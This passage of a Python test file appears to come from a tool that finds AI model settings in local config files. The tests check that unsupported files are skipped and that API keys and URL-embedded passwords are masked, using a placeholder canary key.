    write(home / ".aider.model.settings.yml", "- name: openai/x\n  extra_params: {api_base: https://x}\n")
    write(home / "work/.continue/models/one.yaml", "name: one\n")
    write(home / "work/.continuerc.json", {"models": []})
    monkeypatch.chdir(home / "work")
    assert [one.what for one in aider.find().skipped] == [".aider.model.settings.yml"]
    reasons = [one.reason for one in continue_dev.find().skipped]
    assert [reason.rpartition("--file ")[2] for reason in reasons] == [
        ".continue/models/one.yaml",
        ".continuerc.json",
    ]


def test_a_key_that_stands_elsewhere_too_is_not_shown_there() -> None:
    key = "sk-canary-0a1b2c3d4e5f"
    plain = Finding(name="plain", place="here", provider=Provider.CUSTOM, base_url="https://gw.example/v1")
    spread = replace(plain, name=f"n-{key.upper()}", place=f"~/{key}", api_key=key, model=key)
    in_address = replace(spread, base_url=f"https://gw.example/{key}")
    in_header = replace(spread, headers=(Header(f"X-{key}", "blue"),), base_url="https://two.example/v1")
    local = replace(plain, api_key="llama-server", base_url="http://llama-server:8080/v1")
    found = Found((spread, in_address, in_header, local))
    ((_, told),) = survey([Source("any", "any", "", lambda: found)])
    assert [(one.name, one.place, one.model) for one in told.findings] == [
        ("n-…", "~/…", ""),
        ("plain", "here", ""),
    ]
    assert [(one.what, one.place) for one in told.skipped] == [("n-…", "~/…")]
    assert "in a header name" in told.skipped[0].reason


def test_a_password_in_an_address_is_not_shown_with_what_is_missing() -> None:
    account = accounts.Account(
        name="gw", place="here", url=f"https://me:{KEY}@gw.example/v1", variables=("NOT_SET",)
    )
    (skipped,) = accounts.found([account], {}).skipped
    for one in (skipped, accounts.in_keyring(account, "Zed")):
        assert one.incomplete is None
        assert one.reason == environment.LOGIN_IN_ADDRESS
